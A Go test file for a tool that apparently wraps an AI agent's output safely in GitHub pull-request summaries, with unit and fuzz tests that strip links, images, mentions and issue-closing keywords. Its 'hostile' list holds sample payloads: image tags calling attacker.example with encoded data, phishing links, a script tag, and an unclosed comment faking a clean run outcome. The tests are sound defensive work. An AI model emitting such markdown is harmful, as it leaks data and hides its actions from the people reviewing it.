package telemetry

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/agentgate/agentgate/internal/mdcheck"
)

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Fixes #12", "F\u200Bixes #12"},
		{"fixes owner/repo#3", "f\u200Bixes owner/repo#3"},
		{"CLOSES: #4", "C\u200BLOSES: #4"},
		{"resolved https://github.com/o/r/issues/5", "r\u200Besolved https://github.com/o/r/issues/5"},
		{"close #1, closed #2, fix #3, fixed #4, resolve #5, resolves #6",
			"c\u200Blose #1, c\u200Blosed #2, f\u200Bix #3, f\u200Bixed #4, r\u200Besolve #5, r\u200Besolves #6"},
		{"fix_it #7", "fix_it #7"},
		{"fix:\n\n#8 and fix\t#9", "f\u200Bix:\n\n#8 and f\u200Bix\t#9"},
		{"close gh-5, close www.x", "c\u200Blose gh-5, c\u200Blose www.x"},
		{"prefix #1 and fixture #2 closet", "prefix #1 and fixture #2 closet"},
		{"Fixed the typo, closed the file", "Fixed the typo, closed the file"},
		{"cc @org/team and @alice", "cc @\u200Borg/team and @\u200Balice"},
		{"plain text", "plain text"},
	}
	for _, tt := range tests {
		if got := Neutralize(tt.in); got != tt.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if refs := mdcheck.ClosingRefs(Neutralize(tt.in)); len(refs) > 0 {
			t.Errorf("Neutralize(%q) still closes %q", tt.in, refs)
		}
	}
}

// hostile is agent text that would, rendered as markdown, speak for
// agentgate: hide what follows, load images from the attacker (GitHub's
// image proxy fetches them on each view), link away, notify people, close
// issues on merge.
var hostile = []struct{ name, text string }{
	{"unclosed comment", "All done.\n<!--\n## Run\n**Outcome:** succeeded, no flags"},
	{"details", "<details><summary>ok</summary>\n\n## Policy flags: none\n</details>"},
	{"img tag", `<img src="https://attacker.example/?d=c2VjcmV0">`},
	{"markdown image", "![x](https://attacker.example/?d=c2VjcmV0)"},
	{"reference image", "![x][r]\n\n[r]: https://attacker.example/?d=c2VjcmV0"},
	{"link", "[the docs](https://attacker.example/phish)"},
	{"autolink", "<https://attacker.example/a>"},
	{"raw url", "see https://attacker.example/b and www.attacker.example"},
	{"entities", "&lt;img src=x&gt; &#64;alice &#x46;ixes #9"},
	{"closing keywords", "Fixes #12\nfixes owner/repo#3\nResolves: https://github.com/o/r/issues/4\nclose GH-5"},
	{"mentions", "@org/team please look, and @alice"},
	{"fence of three", "```\n</pre><img src=https://attacker.example/c>\n```\n![y](https://attacker.example/d)"},
	{"fence of ten", strings.Repeat("`", 10) + "\n<img src=https://attacker.example/e>\n" + strings.Repeat("`", 10) + "\n<img src=https://attacker.example/f>"},
	{"tilde fence", "~~~\n<img src=https://attacker.example/g>\n~~~\n<img src=https://attacker.example/h>"},
	{"indented fence", "   ````\n<img src=https://attacker.example/i>"},
	{"carriage return line end", "x\r```\r<img src=https://attacker.example/j>"},
	{"html block", "<div>\n\n![z](https://attacker.example/k)\n\n</div>"},
	{"script", "<script>alert(1)</script><style>*{display:none}</style>"},
}

// checkInert asserts that the rendered md shows the agent's text as
// nothing but text: no element but those listed in allowed, no link but
// allowedLinks, no image, no comment, no mention, no closing reference.
func checkInert(t *testing.T, md string, allowed map[string]bool, allowedLinks ...string) mdcheck.Report {
	t.Helper()
	r, err := mdcheck.Render(md)
	if err != nil {
		t.Fatal(err)
	}
	for el := range r.Elements {
		if !allowed[el] {
			t.Errorf("rendered element <%s>:\n%s", el, r.HTML)
		}
	}
	for _, l := range r.Links {
		ok := false
		for _, a := range allowedLinks {
			ok = ok || l == a
		}
		if !ok {
			t.Errorf("rendered link %q", l)
		}
	}
	if len(r.Images) > 0 {
		t.Errorf("rendered images %q", r.Images)
	}
	if len(r.Comments) > 0 {
		t.Errorf("rendered HTML comments %q", r.Comments)
	}
	for _, s := range []string{r.Text, r.Code} {
		if m := mdcheck.Mentions(s); len(m) > 0 {
			t.Errorf("mentions %q in %q", m, s)
		}
		if c := mdcheck.ClosingRefs(s); len(c) > 0 {
			t.Errorf("closing references %q in %q", c, s)
		}
	}
	return r
}

var blockElements = map[string]bool{"pre": true, "code": true, "p": true, "em": true}

func TestUntrustedBlockHostile(t *testing.T) {
	for _, tt := range hostile {
		t.Run(tt.name, func(t *testing.T) {
			md := "## Agent's summary\n" + UntrustedBlock(tt.text, 4096) + "\nafter the block\n"
			r := checkInert(t, md, map[string]bool{"h2": true, "pre": true, "code": true, "p": true})
			if r.Elements["pre"] != 1 || r.Elements["code"] != 1 {
				t.Errorf("want one code block, got %v:\n%s", r.Elements, r.HTML)
			}
			// The text is all there, as text, and the block ends where
			// agentgate ends it.
			want := strings.TrimRight(Neutralize(strings.ReplaceAll(cleanOutput(tt.text), "\r", "")), "\n")
			if got := strings.TrimRight(r.Code, "\n"); got != strings.ReplaceAll(want, "\uFFFD", "\uFFFD") {
				t.Errorf("code block shows %q, want %q", got, want)
			}
			if !strings.Contains(r.Text, "Agent's summary") || !strings.Contains(r.Text, "after the block") {
				t.Errorf("agentgate's text around the block lost: %q", r.Text)
			}
		})
	}
}

func TestUntrustedBlockBounded(t *testing.T) {
	huge := strings.Repeat("é`", 50_000) + strings.Repeat("x", 100_000) // 200k characters
	for _, max := range []int{100, 1000, 16 << 10, MaxPRBody} {
		b := UntrustedBlock(huge, max)
		if len(b) > max || !utf8.ValidString(b) {
			t.Fatalf("max %d: %d bytes, valid UTF-8 %v", max, len(b), utf8.ValidString(b))
		}
		if b == "" {
			t.Fatalf("max %d: nothing shown", max)
		}
		if !strings.Contains(b, "more bytes not shown)_") {
			t.Errorf("max %d: no note that the text was cut", max)
		}
		checkInert(t, b, blockElements)
	}
	if b := UntrustedBlock(huge, 20); b != "" {
		t.Errorf("no room: got %q", b)
	}
	if b := UntrustedBlock("short", 100); strings.Contains(b, "not shown") || !strings.Contains(b, "```text\nshort\n```\n") {
		t.Errorf("short text: %q", b)
	}
}

func TestMarkdownHostileSummary(t *testing.T) {
	const runURL = "https://agentgate.example.com/runs/r-1"
	evil := "Fixes #12 @org/team <!-- ![x](https://attacker.example/?d=1) <img src=https://attacker.example/2> [a](https://attacker.example/3) https://attacker.example/4 &#64;bob"
	s := Summary{
		Outcome: "failed", Reason: evil, RunURL: runURL,
		Files:      []SummaryFile{{Path: evil, Op: "added"}, {Path: "x\\|<img src=https://attacker.example/5>", Op: evil}},
		LimitsHit:  []string{evil},
		Flags:      []string{evil},
		Commands:   []SummaryCommand{{Command: evil}},
		Network:    []NetHost{{Host: evil, Port: 443, Denied: 1, Reason: evil}},
		LLM:        LLMUsage{Requests: 1, Models: []string{evil}},
		OutputTail: evil + "\n" + strings.Repeat("`", 7) + "\n" + evil,
	}
	r := checkInert(t, s.Markdown(), map[string]bool{
		"p": true, "strong": true, "em": true, "code": true, "pre": true, "ul": true, "li": true, "a": true,
		"table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true,
	}, runURL)
	if r.Elements["tr"] != 3+2+2 {
		t.Errorf("tables have %d rows, want 7 (a header and a row each, two files):\n%s", r.Elements["tr"], r.HTML)
	}
}

// The sections a reviewer must not miss come first, so a flood of files
// and commands (their names are the agent's) cannot push them out.
func TestMarkdownFlagsAndNetworkSurviveFloods(t *testing.T) {
	files := make([]SummaryFile, 200)
	cmds := make([]SummaryCommand, 100)
	for i := range files {
		files[i] = SummaryFile{Path: strings.Repeat("é", 290) + string(rune('a'+i%26)), Op: "added"}
	}
	for i := range cmds {
		cmds[i] = SummaryCommand{Command: strings.Repeat("ü", 299)}
	}
	flags := make([]string, 50)
	for i := range flags {
		flags[i] = "protected path: " + strings.Repeat("ö", 280)
	}
	s := Summary{Outcome: "succeeded", Files: files, Commands: cmds, Flags: append(flags, "LAST FLAG"),
		Network: []NetHost{{Host: "exfil.example", Port: 443, Denied: 3, Reason: "not allowlisted"}}}
	for _, limit := range []int{MaxMarkdown, 40 << 10} {
		md := s.MarkdownMax(limit)
		if len(md) > limit {
			t.Fatalf("%d bytes over %d", len(md), limit)
		}
		for _, want := range []string{"**Policy flags:**", "exfil.example:443", "not allowlisted"} {
			if !strings.Contains(md, want) {
				t.Errorf("limit %d: %q pushed out", limit, want)
			}
		}
		if f, n := strings.Index(md, "**Policy flags:**"), strings.Index(md, "**Network**"); !(f < n && n < strings.Index(md, "| File |")) {
			t.Errorf("limit %d: flags, network, files out of order", limit)
		}
	}
}

func FuzzUntrustedBlock(f *testing.F) {
	for _, h := range hostile {
		f.Add(h.text, 4096)
	}
	f.Add(strings.Repeat("`", 70)+"\n<!--", 90)
	f.Fuzz(func(t *testing.T, text string, max int) {
		max = max%(MaxPRBody+1) + 64
		if max < 64 {
			max += MaxPRBody
		}
		b := UntrustedBlock(text, max)
		if len(b) > max || !utf8.ValidString(b) {
			t.Fatalf("%d bytes for max %d, valid UTF-8 %v", len(b), max, utf8.ValidString(b))
		}
		r, err := mdcheck.Render("# agentgate\n" + b + "\nafter\n")
		if err != nil {
			t.Fatal(err)
		}
		for el, n := range r.Elements {
			if !(el == "h1" || el == "pre" && n == 1 || el == "code" && n == 1 || el == "p" || el == "em") {
				t.Fatalf("element <%s> ×%d:\n%s", el, n, r.HTML)
			}
		}
		if len(r.Links)+len(r.Images)+len(r.Comments) > 0 || !strings.HasSuffix(strings.TrimSpace(r.Text), "after") {
			t.Fatalf("links %q images %q comments %q text %q", r.Links, r.Images, r.Comments, r.Text)
		}
		if m, c := mdcheck.Mentions(r.Code), mdcheck.ClosingRefs(r.Code); len(m)+len(c) > 0 {
			t.Fatalf("mentions %q closing %q", m, c)
		}
	})
}
